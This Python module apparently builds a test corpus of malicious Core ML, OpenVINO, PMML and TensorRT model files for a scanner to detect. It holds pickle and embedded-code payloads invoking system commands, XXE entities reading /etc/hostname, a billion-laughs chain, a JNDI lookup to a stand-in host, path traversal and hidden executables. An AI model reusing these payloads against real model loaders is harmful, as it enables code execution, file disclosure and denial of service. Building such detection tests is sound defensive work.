"""Graphs of vendors: Core ML, OpenVINO, PMML and TensorRT files that reach out or bring code."""

# ruff: noqa: E501 (a table reads better with one entry a line)

import json
import struct
from base64 import b64encode
from collections.abc import Callable, Iterator

from proofs.hostile.case import COMMAND, Case, Files
from proofs.hostile.onnxfiles import Field, message

_PICKLE = (
    b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c"
    + bytes([len(COMMAND)])
    + COMMAND.encode()
    + b"\x85R."
)
_ELF = (
    b"\x7fELF\2\1\1\0"
    + bytes(8)
    + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
)
_CUBIN = b"\x7fELF\2\1\1\x33" + bytes(8) + struct.pack("<HHI", 2, 190, 1) + bytes(60)
_PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(64)


# Core ML ---------------------------------------------------------------------------------------


def description(*entries: Field) -> Field:
    """A ModelDescription with metadata."""
    return (2, message((1, message((1, "x"))), (100, message(*entries))))


def spec(*kinds: Field, version: int = 7, about: tuple[Field, ...] = ()) -> bytes:
    """A Model of these types."""
    return message((1, version), description(*about), *kinds)


def layer(name: str, number: int, parameters: bytes) -> bytes:
    """A NeuralNetworkLayer."""
    return message((1, name), (2, "x"), (3, "y"), (number, parameters))


def custom(name: str) -> bytes:
    """CustomLayerParams with weights and a parameter."""
    value = message((20, message((30, message((10, COMMAND))))))
    return message(
        (10, name), (20, message((1, struct.pack("<2f", 1, 2)))), (30, value), (40, "custom")
    )


def linked(name: str, places: str = "") -> bytes:
    """A LinkedModel."""
    return message((1, message((1, message((1, name))), (2, message((1, places))))))


def tensor_type(count: int, kind: int = 11) -> bytes:
    """A ValueType of ``count`` numbers."""
    return message((1, message((1, kind), (2, 1), (3, message((1, message((1, count))))))))


def program(path: str, offset: int = 64, count: int = 4, operation: str = "const") -> bytes:
    """A Program whose only operation reads its value from a weight file."""
    value = message((2, tensor_type(count)), (5, message((1, path), (2, offset))))
    made = message(
        (1, operation),
        (5, message((1, "val"), (2, value))),
        (3, message((1, "w"), (2, tensor_type(count)))),
    )
    block = message((2, "w"), (3, made))
    function = message((2, "CoreML6"), (3, message((1, "CoreML6"), (2, block))))
    return message((1, 1), (2, message((1, "main"), (2, function))))


def entry(size: int, at: int, kind: int = 2) -> bytes:
    """blob_metadata."""
    return struct.pack("<IIQQ", 0xDEADBEEF, kind, size, at) + bytes(40)


def weights(*parts: bytes, count: int = 1) -> bytes:
    """A weight file: header, then what is given, each filled up to 64 bytes."""
    made = struct.pack("<II", count, 2) + bytes(56)
    for part in parts:
        made += part + bytes(-len(part) % 64)
    return made


_FOUR = struct.pack("<4f", 1, 2, 3, 4)
_GOOD = weights(entry(16, 128), _FOUR)


def manifest(path: str = "com.apple.CoreML/model.mlmodel", extra: str = "") -> bytes:
    """Manifest.json of a package."""
    items = {
        "A": {"author": "com.apple.CoreML", "description": "m", "name": "model.mlmodel", "path": path},
        "B": {"author": "com.apple.CoreML", "description": "w", "name": "weights", "path": "com.apple.CoreML/weights"},
    }  # fmt: skip
    text = json.dumps(
        {"fileFormatVersion": "1.0.0", "itemInfoEntries": items, "rootModelIdentifier": "A"}
    )
    return (text[:-1] + extra + "}").encode()


def package(model: bytes, blob: bytes = _GOOD, listing: bytes = b"") -> Files:
    """An .mlpackage."""
    return {
        "Manifest.json": listing or manifest(),
        "Data/com.apple.CoreML/model.mlmodel": model,
        "Data/com.apple.CoreML/weights/weight.bin": blob,
    }


def core_ml_code() -> dict[str, Files]:
    """Classes of the application and models elsewhere."""
    network = message((1, layer("c", 500, custom("SeamarkHarmlessLayer"))))
    nested = message((1, layer("b", 605, message((1, network)))))
    inner = spec((500, network))
    return {
        "custom-layer": spec((500, network)),
        "custom-in-branch": spec((500, nested)),
        "custom-in-classifier": spec((403, network)),
        "custom-in-pipeline": spec((202, message((1, spec((600, message((1, message()))))), (1, inner)))),
        "custom-in-pipeline-classifier": spec((200, message((1, message((1, inner)))))),
        "custom-model": spec((555, message((10, "SeamarkHarmlessModel"), (40, "x")))),
        "custom-operation": package(spec((502, program("@model_path/weights/weight.bin", operation="custom_layer")))),
        "linked": spec((556, linked("Other.mlmodelc"))),
        "linked-absolute": spec((556, linked("Other.mlmodelc", "/private/var/tmp:."))),
        "linked-parent": spec((556, linked("../../Other.mlmodelc"))),
        "linked-in-pipeline": spec((202, message((1, spec((556, linked("x.mlmodelc", "../..")))))),
                                   ),
        "two-types": spec((500, message((1, layer("r", 130, message((10, b"")))))), (555, message((10, "SeamarkHarmless")))),
    }  # fmt: skip


def core_ml_paths() -> dict[str, Files]:
    """Weights and items outside of the model, or not where they should be."""
    inside = "@model_path/weights/weight.bin"
    good = spec((502, program(inside)))
    return {
        "weights-absolute": package(spec((502, program("/etc/hostname")))),
        "weights-parent": package(spec((502, program("@model_path/../../../../etc/hostname")))),
        "weights-other-variable": package(spec((502, program("@seamark/weight.bin")))),
        "weights-address": package(spec((502, program("file:///etc/hostname")))),
        "weights-offset": package(spec((502, program(inside, offset=1 << 40)))),
        "weights-between": package(spec((502, program(inside, offset=96)))),
        "weights-too-many": package(spec((502, program(inside, count=1 << 20)))),
        "manifest-parent": package(good, listing=manifest("../../../.ssh/seamark")),
        "manifest-absolute": package(good, listing=manifest("/etc/hostname")),
        "manifest-backslash": package(good, listing=manifest("..\\..\\x.mlmodel")),
        "manifest-twice": package(good, listing=manifest(extra=', "rootModelIdentifier": "B"')),
    }


def core_ml_bytes() -> dict[str, Files]:
    """Payloads in weight files and metadata."""
    good = spec((502, program("@model_path/weights/weight.bin")))
    dense = message((1, layer("d", 140, message((1, 1), (2, 1), (20, message((2, _ELF)))))))
    encoded = b64encode(_PICKLE).decode()
    return {
        "entry-overlap": package(good, weights(entry(16, 128), _FOUR, entry(16, 128), count=2)),
        "entry-beyond": package(good, weights(entry(1 << 40, 128), _FOUR)),
        "entry-elsewhere": package(good, weights(entry(16, 0), _FOUR)),
        "count-huge": package(good, weights(entry(16, 128), _FOUR, count=0xFFFFFFFF)),
        "trailing": package(good, _GOOD + _PICKLE),
        "trailing-program": package(good, _GOOD + bytes(4096) + _ELF),
        "program-as-weight": package(good, weights(entry(len(_ELF), 128), _ELF)),
        "program-in-layer": spec((500, dense)),
        "metadata-pickle": spec(
            (500, message((1, layer("r", 130, b"")))),
            about=((100, message((1, "k"), (2, encoded))),),
        ),
        "metadata-program": spec((500, message((1, layer("r", 130, b"")))), about=((3, _PE),)),
    }


# OpenVINO ----------------------------------------------------------------------------------------

_NUMBERS = struct.pack("<8f", *range(8))


def const(name: str, offset: object, size: object, shape: str = "8", kind: str = "f32") -> str:
    """A Const layer."""
    data = f'<data element_type="{kind}" shape="{shape}" offset="{offset}" size="{size}"/>'
    return f'<layer id="0" name="{name}" type="Const" version="opset1">{data}</layer>'


def net(*layers: str, before: str = "", after: str = "") -> bytes:
    """A document of these layers."""
    return f'<?xml version="1.0"?>{before}<net name="m" version="11"><layers>{"".join(layers)}</layers><edges/>{after}</net>'.encode()


def operation(kind: str, version: str, data: str = "") -> str:
    """A layer of any operation."""
    return f'<layer id="1" name="n" type="{kind}" version="{version}"><data {data}/></layer>'


def openvino_layers() -> dict[str, Files]:
    """Operations that need a library, and paths in attributes."""
    body = f"<layer id='2' name='i' type='If' version='opset8'><then_body><layers>{operation('Exec', 'extension')}</layers></then_body></layer>"
    xinclude = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>'
    doctype = '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    return {
        "extension": net(operation("SeamarkHarmless", "extension")),
        "own-opset": net(operation("SystemCall", "seamark_opset")),
        "standard-opset": net(operation("SystemCall", "opset1")),
        "in-body": net(body),
        "like-tokenizer": net(operation("SentencepieceTokenizerX", "extension")),
        "library": net(operation("Custom", "extension", 'library="/tmp/seamark.so"')),
        "library-in-standard": net(
            operation("Add", "opset1", 'auto_broadcast="../../seamark.dll"')
        ),
        "address": net(operation("Add", "opset1", 'auto_broadcast="http://seamark.invalid/k.cl"')),
        "entity": net(const("&x;", 0, 32), before=doctype),
        "inclusion": net(operation("Add", "opset1"), after=xinclude),
        "comment-first": net(
            operation("Exec", "extension"), before="<!--" + "-" * 0 + "x" * 9000 + "-->"
        ),
        "utf-16": net(operation("Exec", "extension"))
        .decode()
        .replace("?>", ' encoding="UTF-16"?>', 1)
        .encode("utf-16"),
    }


def openvino_weights() -> dict[str, Files]:
    """Constants against the weight file."""

    def of(*layers: str, data: bytes = _NUMBERS) -> Files:
        return {"model.xml": net(*layers), "model.bin": data}

    good = const("w", 0, 32)
    return {
        "beyond": of(good, const("v", 1 << 33, 32)),
        "wraps": of(good, const("v", (1 << 64) - 16, 32)),
        "larger-than-64-bits": of(good, const("v", 1 << 80, 32)),
        "negative": of(good, const("v", -8, 32)),
        "no-number": of(good, const("v", "0x10", 32)),
        "size-lies": of(const("w", 0, 32, shape="8,1000000")),
        "overlap": of(good, const("v", 8, 16, shape="4")),
        "behind": of(good, data=_NUMBERS + b"seamark-harmless" * 8),
        "between": of(const("w", 0, 16, shape="4"), const("v", 48, 16, shape="4"), data=_NUMBERS[:16] + b"seamark-harmless" * 2 + _NUMBERS[16:]),
        "program": of(const("w", 0, len(_ELF), shape=str(len(_ELF)), kind="u8"), data=_ELF),
        "pickle": of(const("w", 0, len(_PICKLE), shape=str(len(_PICKLE)), kind="u8"), data=_PICKLE),
        "zip-behind": of(good, data=_NUMBERS + b"PK\5\6" + bytes(18)),
    }  # fmt: skip


# PMML --------------------------------------------------------------------------------------------

_NAMESPACE = "http://www.dmg.org/PMML-4_4"


def pmml(
    inside: str = "", before: str = "", declared: str = "UTF-8", attributes: str = ""
) -> bytes:
    """A regression model with something in it."""
    model = '<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1"/></RegressionModel>'
    return f'<?xml version="1.0" encoding="{declared}"?>{before}<PMML version="4.4" xmlns="{_NAMESPACE}" {attributes}><Header/><DataDictionary/>{inside}{model}</PMML>'.encode()


def pmml_entities() -> dict[str, Files]:
    """Document types, entities, inclusions."""

    def doctype(text: str) -> str:
        return f"<!DOCTYPE PMML {text}>"

    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)
    )
    xinclude = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/hostname"/>'
    return {
        "file": pmml("&x;", doctype('[<!ENTITY x SYSTEM "file:///etc/hostname">]')),
        "address": pmml("&x;", doctype('[<!ENTITY x SYSTEM "http://seamark.invalid/x">]')),
        "public": pmml("&x;", doctype('[<!ENTITY x PUBLIC "p" "http://seamark.invalid/x">]')),
        "parameter": pmml("", doctype('[<!ENTITY % x SYSTEM "http://seamark.invalid/x.dtd">%x;]')),
        "external-type": pmml("", doctype('SYSTEM "http://seamark.invalid/x.dtd"')),
        "share": pmml("", doctype('SYSTEM "//seamark.invalid/x/x.dtd"')),
        "laughs": pmml("&a11;", doctype(f"[{laughs}]")),
        "quadratic": pmml("&a;" * 2000, doctype(f'[<!ENTITY a "{"x" * 20000}">]')),
        "internal": pmml("&a;", doctype('[<!ENTITY a "x">]')),
        "defaults": pmml("", doctype('[<!ATTLIST RegressionTable intercept CDATA "9">]')),
        "unparsed": pmml("", doctype('[<!NOTATION n SYSTEM "seamark"><!ENTITY x SYSTEM "x.exe" NDATA n>]')),
        "inclusion": pmml(xinclude),
        "utf-16": pmml("&x;", doctype('[<!ENTITY x SYSTEM "file:///etc/hostname">]'), "UTF-16").decode().encode("utf-16"),
        "utf-7": pmml("", "", "UTF-7"),
        "prefix": b'<p:PMML xmlns:p="' + _NAMESPACE.encode() + b'" version="4.4"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x"/></p:PMML>',
        "other-root": b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/hostname">]><x>&x;</x>',
        "comment-first": pmml("&x;", "<!--" + "x" * 9000 + "-->" + doctype('[<!ENTITY x SYSTEM "file:///etc/hostname">]')),
    }  # fmt: skip


def pmml_code() -> dict[str, Files]:
    """Extensions with code, names of classes, instructions."""

    def extension(text: str = "", **said: str) -> bytes:
        attributes = " ".join(f'{key}="{value}"' for key, value in said.items())
        return pmml(f"<Extension {attributes}>{text}</Extension>")

    apply = '<TransformationDictionary><DerivedField name="d" optype="continuous" dataType="double"><Apply function="{}"><FieldRef field="x"/></Apply></DerivedField></TransformationDictionary>'
    return {
        "java": extension(f'Runtime.getRuntime().exec("{COMMAND}")', extender="KNIME"),
        "java-attribute": extension(extender="KNIME", name="snippet", value="new ProcessBuilder(args).start()"),
        "javascript": extension(f"<![CDATA[<script>alert('{COMMAND}')</script>]]>", name="html"),
        "groovy": pmml(f'<Extension extender="jpmml"><s:Script xmlns:s="urn:seamark" language="groovy">"{COMMAND}".execute()</s:Script></Extension>'),
        "python": extension(f"import os; os.system('{COMMAND}')", name="pythonCode"),
        "pickle": extension(b64encode(_PICKLE).decode(), name="estimator"),
        "java-object": extension("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", name="object"),
        "lookup": extension(value="${jndi:ldap://seamark.invalid/a}", name="note"),
        "split-in-comment": extension("Runtime.get<!-- x -->Runtime()", name="snippet"),
        "class": pmml(apply.format("org.seamark.harmless.Function")),
        "class-of-java": pmml(apply.format("java.lang.Runtime")),
        "style-sheet": pmml(before='<?xml-stylesheet type="text/xsl" href="http://seamark.invalid/x.xsl"?>'),
        "php": pmml(f"<?php system('{COMMAND}'); ?>"),
        "schema-share": pmml(attributes='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 file://seamark.invalid/x.xsd"'),
        "zip-behind": pmml() + b"PK\5\6" + bytes(18),
    }  # fmt: skip


def denial() -> dict[str, Files]:
    """Documents that only cost."""
    deep = b'<?xml version="1.0"?><PMML version="4.4">' + b"<Node>" * 200_000
    names = b"".join(b"<a%d/>" % i for i in range(60_000))
    return {
        "deep.pmml": deep,
        "deep.xml": b'<net name="m" version="11"><layers>' + b"<layer>" * 200_000,
        "names.pmml": b'<PMML version="4.4">' + names + b"</PMML>",
        "attribute.pmml": b'<PMML version="4.4"><Extension value="'
        + b"A" * (3 << 20)
        + b'"/></PMML>',
        "prolog.pmml": b"<!--" + b"x" * (2 << 20) + b"-->" + pmml()[38:],
    }


# TensorRT ----------------------------------------------------------------------------------------


def engine(*parts: bytes) -> bytes:
    """The little that is public: magic, and the version from byte 24 on."""
    head = b"ftrt" + bytes(20) + bytes([10, 3, 0, 26]) + bytes(36)
    return head + b"".join(struct.pack("<Q", len(part)) + part for part in parts) + bytes(64)


def tensorrt() -> dict[str, Files]:
    """Engines with libraries and plugins."""
    lean = _ELF + b"libnvinfer_lean.so.10\0"
    return {
        "library": engine(_CUBIN, _ELF + b"libseamark.so\0"),
        "library-late": engine(bytes(5 << 20), _ELF),
        "library-windows": engine(_PE),
        "lean-runtime": engine(lean),
        "own-plugin": engine(b"SeamarkHarmlessPlugin", b"1", b"seamark"),
        "own-plugin-trt": engine(b"SeamarkExec_TRT", b"1", b""),
        "opaque": engine(_CUBIN),
        "known-plugin": engine(b"EfficientNMS_TRT", b"1", b""),
        "old": b"ptrt" + struct.pack("<III", 0, 232, 0) + bytes(256),
        "zip-behind": engine() + b"PK\5\6" + bytes(18),
    }


_ONLY_STOPPED = {
    "count-huge", "opaque", "known-plugin", "old", "deep.pmml", "deep.xml", "names.pmml",
    "attribute.pmml", "prolog.pmml", "utf-7",
}  # fmt: skip
_TABLES: dict[str, tuple[str, str, Callable[[], dict[str, Files]], str, str]] = {
    "core-ml/code": ("core-ml", "code", core_ml_code, ".mlmodel", ".mlpackage"),
    "core-ml/paths": ("core-ml", "paths", core_ml_paths, ".mlmodel", ".mlpackage"),
    "core-ml/bytes": ("core-ml", "bytes", core_ml_bytes, ".mlmodel", ".mlpackage"),
    "openvino/layers": ("openvino", "layers", openvino_layers, ".xml", ""),
    "openvino/weights": ("openvino", "weights", openvino_weights, ".xml", ""),
    "pmml/entities": ("pmml", "entities", pmml_entities, ".pmml", ""),
    "pmml/code": ("pmml", "code", pmml_code, ".pmml", ""),
    "graph-denial/xml": ("graph-denial", "xml", denial, "", ""),
    "tensorrt/engine": ("tensorrt", "engine", tensorrt, ".engine", ""),
}


_SMALLER_GROUPS = {
    ("graph-denial", "deep"): "depth",
    ("tensorrt", "library"): "native",
    ("tensorrt", "lean"): "native",
}
"""Tables whose cases are of two kinds: by family and the first word of the name."""


def cases() -> Iterator[Case]:
    """One case an entry."""
    for prefix, (family, group, table, file_ending, folder_ending) in _TABLES.items():
        for name, files in table().items():
            ending = file_ending if isinstance(files, bytes) else folder_ending
            yield Case(
                id=f"{prefix}/{name}",
                family=family,
                group=_SMALLER_GROUPS.get(
                    (family, name.partition("-")[0].partition(".")[0]), group
                ),
                source="own",
                path=f"{family}/{group}-{name}{ending}",
                build=lambda t=table, n=name: t()[n],
                expected="stopped" if name in _ONLY_STOPPED else "found",
            )
